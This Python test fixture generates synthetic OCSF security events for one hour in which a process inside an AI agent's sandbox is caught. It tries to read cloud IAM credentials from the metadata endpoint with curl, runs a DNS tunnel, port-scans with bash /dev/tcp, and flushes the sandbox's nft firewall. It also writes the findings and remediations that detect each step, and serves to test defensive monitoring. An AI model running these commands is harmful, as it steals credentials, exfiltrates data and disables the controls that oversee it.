"""Events of an attack on a sandbox within an hour, as a service writes them; also as a sample.

``python -m tests.report.day`` writes them as JSON Lines to standard output.
"""

from __future__ import annotations

import json
import uuid
from typing import TYPE_CHECKING, Any, Final

if TYPE_CHECKING:
    from collections.abc import Iterator

Event = dict[str, Any]

#: 2026-11-24 09:00:00 UTC, in ms since the epoch.
BEGIN: Final = 1_795_510_800_000
SECOND: Final = 1000
MINUTE: Final = 60 * SECOND
_RUNBOOK: Final = "https://ocsf-nft.example/runbook"
_CONTAINER: Final = {
    "uid": "3f4e0c2c9d1a",
    "name": "agent-7",
    "runtime": "containerd",
    "image": {"uid": "sha256:77af4d6b9913", "name": "registry.example/agent:1.2"},
}
_USER: Final = {"uid": "1000", "name": "agent"}
_SHELL: Final = ({"pid": 4200, "name": "bash", "path": "/usr/bin/bash"},)
_AGENT: Final = (
    {"pid": 4100, "name": "node", "path": "/opt/agent/bin/node"},
    {"pid": 4001, "name": "tini", "path": "/usr/bin/tini"},
)


def uid(*parts: object) -> str:
    """Return a uid that depends on the parts only."""
    return str(uuid.uuid5(uuid.NAMESPACE_OID, "/".join(map(str, parts))))


def process(pid: int, path: str, cmd_line: str, *, ancestors: tuple[Any, ...] = ()) -> Event:
    """Return a process below the agent."""
    return {
        "pid": pid,
        "name": path.rpartition("/")[2],
        "path": path,
        "cmd_line": cmd_line,
        "working_directory": "/home/agent/work",
        "created_time": BEGIN - MINUTE,
        "user": _USER,
        "container": _CONTAINER,
        "ancestry": [*ancestors, *_AGENT],
        "file": {
            "path": path,
            "hashes": [{"algorithm_id": 3, "value": uid(path).replace("-", "") * 2}],
        },
    }


_CURL: Final = process(
    4242,
    "/usr/bin/curl",
    "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    ancestors=_SHELL,
)
_PIP: Final = process(4310, "/usr/bin/python3.13", "python3 -m pip install requests")
_DIG: Final = process(
    4400, "/home/agent/.x/tun", "/home/agent/.x/tun -d t.example.net", ancestors=_SHELL
)
_NFT: Final = process(4500, "/usr/sbin/nft", "nft flush table inet ocsf_nft", ancestors=_SHELL)


def _base(kind: int, time: int, *parts: object, code: str, severity: int) -> Event:
    return {
        "class_uid": kind,
        "time": time,
        "severity_id": severity,
        "device": {"hostname": "node-3", "os": {"kernel_release": "6.18.44"}},
        "metadata": {
            "version": "1.8.0",
            "uid": uid(kind, time, *parts),
            "event_code": code,
            "labels": ["team=search", "task=rfc-1291"],
            "tenant_uid": "acme",
        },
        "cloud": {"provider": "AWS", "account": {"uid": "123456789012"}, "region": "eu-central-1"},
    }


def activity(
    at: int,
    to: str,
    port: int,
    *,
    by: Event | None,
    count: int = 1,
    protocol: int = 6,
    sandbox: str = "agent-7",
    severity: int = 3,
    allowed: bool = False,
    lasted: int = 0,
) -> Event:
    """Return a Network Activity event ``at`` ms after the begin."""
    time = BEGIN + at
    event = _base(4001, time, to, port, by and by["pid"], code="egress-blocked", severity=severity)
    event["metadata"]["correlation_uid"] = uid("flow", sandbox, to, port)
    event |= {
        "activity_id": 1 if allowed else 5,
        "start_time": time - lasted,
        "end_time": time,
        "count": count,
        "disposition_id": 17 if allowed else 2,
        "status_code": "permissive" if allowed else "tcp-reset",
        "firewall_rule": {"name": "egress"},
        "src_endpoint": {"name": sandbox, "ip": "10.200.0.2", "container": _CONTAINER},
        "dst_endpoint": {"ip": to, "port": port},
        "connection_info": {"direction_id": 2, "protocol_num": protocol},
        "actor": {"user": _USER} if by is None else {"process": by, "user": _USER},
        "unmapped": {"sandbox": sandbox},
    }
    return event


def finding(
    name: str,
    at: int,
    *,
    since: int,
    count: int,
    code: str,
    title: str,
    remediation: str,
    severity: int = 4,
    activity_id: int = 1,
    by: tuple[Event, ...] = (),
    to: tuple[tuple[str, int], ...] = (),
    detail: str = "New.",
    sandbox: str = "agent-7",
) -> Event:
    """Return an event of the Detection Finding ``name``, ``at`` ms after the begin."""
    event = _base(2004, BEGIN + at, name, activity_id, code=code, severity=severity)
    correlation = uid("flow", sandbox, *to[0]) if len(to) == 1 else uid("correlation", name)
    event["metadata"]["correlation_uid"] = correlation
    ends = [
        {
            "src_endpoint": {"name": sandbox},
            "dst_endpoint": {"ip": ip, "port": port},
            "connection_info": {"direction_id": 2, "protocol_num": 17 if port == 53 else 6},
        }
        for ip, port in to
    ]
    event |= {
        "activity_id": activity_id,
        "status_id": 1,
        "status_detail": detail,
        "count": count,
        "message": f"{title} (sandbox {sandbox})",
        "finding_info": {
            "uid": uid("finding", name),
            "title": title,
            "desc": "A program in the sandbox did not use the sandbox's proxy.",
            "types": ["Policy Violation"],
            "src_url": f"{_RUNBOOK}/{code}",
            "attacks": [
                {"technique": {"uid": "T1552.005", "name": "Cloud Instance Metadata API"}}
            ] if name == "metadata" else [],
            "first_seen_time": BEGIN + since,
            "last_seen_time": BEGIN + at,
            "related_events": [{"uid": uid("related", name, n)} for n in range(3)],
            "related_events_count": 3,
        },
        "remediation": {"desc": remediation},
        "evidences": [{"process": each} for each in by] + ends,
        "resources": [{"type": "sandbox", "name": sandbox}],
        "unmapped": {"sandbox": sandbox},
    }  # fmt: skip
    return event


def fence(at: int, state_id: int, state: str, message: str, *, code: str, severity: int) -> Event:
    """Return a Device Config State Change event."""
    event = _base(5019, BEGIN + at, state, code=code, severity=severity)
    return event | {
        "state_id": state_id,
        "state": state,
        "security_level_id": 1 if state_id == 2 else 2,
        "message": message,
        "unmapped": {"sandbox": "agent-7"},
    }


def lifecycle(
    at: int, name: str, message: str, *, code: str, severity: int, lasted: int = 0
) -> Event:
    """Return an Application Lifecycle event."""
    event = _base(6002, BEGIN + at, name, message, code=code, severity=severity)
    unmapped = {"sandbox": "agent-7"} if lasted else {}
    return event | {
        "activity_id": 99,
        "activity_name": name,
        "start_time": BEGIN + at - lasted,
        "end_time": BEGIN + at,
        "message": message,
        "unmapped": unmapped,
    }


def scanners() -> tuple[Event, ...]:
    """Return the 25 processes of the scan."""
    return tuple(
        process(5000 + n, "/usr/bin/bash", f"bash -c echo >/dev/tcp/10.0.0.{n}/22",
                ancestors=({"pid": 4600, "name": "xargs", "path": "/usr/bin/xargs"}, *_SHELL))
        for n in range(25)
    )  # fmt: skip


def events() -> Iterator[Event]:
    """Yield the events of the hour in the order of their times."""
    yield lifecycle(
        -2 * MINUTE, "Start", "ocsf-nft 0.2.0 started.", code="service-started", severity=1
    )
    yield fence(
        -2 * MINUTE + SECOND, 2, "Enabled",
        "The fence of sandbox agent-7 is active, and logs what it blocks (before: absent).",
        code="fence-active", severity=1,
    )  # fmt: skip
    for n in range(40):
        yield activity(n * 70 * SECOND, "151.101.0.223", 443, by=_PIP, count=2 + n % 3, severity=2)
    yield activity(12 * MINUTE, "169.254.169.254", 80, by=_CURL, count=6, severity=4)
    theft: dict[str, Any] = {
        "code": "cloud-metadata-finding",
        "title": "curl tried to read cloud credentials; the fence blocked it",
        "remediation": "Rotate nothing: no packet left. Stop process 4242 in container agent-7 and "
        "find out who started bash[4200].",
        "severity": 5, "by": (_CURL,), "to": (("169.254.169.254", 80),),
    }  # fmt: skip
    yield finding("metadata", 12 * MINUTE + 100, since=12 * MINUTE, count=6, **theft)
    yield activity(14 * MINUTE, "169.254.169.254", 80, by=_CURL, count=12, severity=4,
                   lasted=90 * SECOND)  # fmt: skip
    yield finding(
        "metadata", 14 * MINUTE + 100, since=12 * MINUTE, count=18, activity_id=2,
        **(theft | {"by": ()}), detail="Inactive since 2026-11-24 09:14:00 UTC.",
    )  # fmt: skip
    for n in range(30):
        dns = activity(16 * MINUTE + n * 9 * SECOND, "8.8.8.8", 53, by=_DIG, count=10, protocol=17)
        dns["observables"] = [
            {"name": "query.hostname", "type_id": 1, "value": f"{uid(n)[:12]}.t.example.net"}
        ]
        yield dns
    yield finding(
        "tunnel", 21 * MINUTE, since=16 * MINUTE, count=300, code="dns-tunnel-finding",
        title="tun sent 300 distinct names below t.example.net: DNS tunnel",
        remediation="Stop process 4400 (/home/agent/.x/tun), keep the file, and search for its "
        "hash on other hosts.", by=(_DIG,), to=(("8.8.8.8", 53),),
    )  # fmt: skip
    for n, each in enumerate(scanners()):
        yield activity(25 * MINUTE + n * 200, f"10.0.0.{n}", 22, by=each, count=40)
    yield finding(
        "scan", 25 * MINUTE + 6 * SECOND, since=25 * MINUTE, count=1000, code="scan-finding",
        title="25 processes of agent scanned 25 destinations on port 22",
        remediation="Stop xargs[4600], the parent of all 25 processes.", by=scanners(),
        to=tuple((f"10.0.0.{n}", 22) for n in range(25)),
    )  # fmt: skip
    flood = activity(34 * MINUTE, "203.0.113.7", 443, by=None, count=41_200, lasted=3 * MINUTE)
    flood["unmapped"]["aggregation"] = {"reason": "many", "flows": 900}
    del flood["dst_endpoint"]
    yield flood
    yield fence(
        38 * MINUTE, 99, "Altered",
        "The fence of sandbox agent-7 was changed by nft[4500] (uid 0): table inet ocsf_nft was "
        "flushed. It was restored after 14 ms.", code="fence-restored", severity=4,
    )  # fmt: skip
    yield finding(
        "tampering", 38 * MINUTE + 20, since=38 * MINUTE, count=1, code="tampering-finding",
        title="nft flushed the fence of sandbox agent-7; it was restored after 14 ms",
        remediation="Take CAP_NET_ADMIN from the container: it can change its own fence.",
        by=(_NFT,),
    )  # fmt: skip
    yield fence(
        38 * MINUTE + SECOND, 2, "Enabled",
        "The fence of sandbox agent-7 is active, and logs what it blocks (before: altered).",
        code="fence-active", severity=1,
    )  # fmt: skip
    yield lifecycle(
        45 * MINUTE, "Collection Gap", "ocsf-nft did not read the fence of sandbox agent-7 for "
        "40.0 s. Meanwhile 212 packets were blocked; later events count them.",
        code="collection-gap", severity=4, lasted=40 * SECOND,
    )  # fmt: skip
    yield lifecycle(
        46 * MINUTE, "Records Dropped",
        "31 records were dropped on the way from the kernel (nflog): the buffer was full.",
        code="records-dropped", severity=4,
    )  # fmt: skip
    yield activity(
        50 * MINUTE, "203.0.113.80", 443, by=None, count=3, sandbox="trial-2", allowed=True
    )


def main() -> None:
    """Write the events as JSON Lines."""
    for event in events():
        print(json.dumps(event))  # noqa: T201 - a program that prints its results


if __name__ == "__main__":
    main()
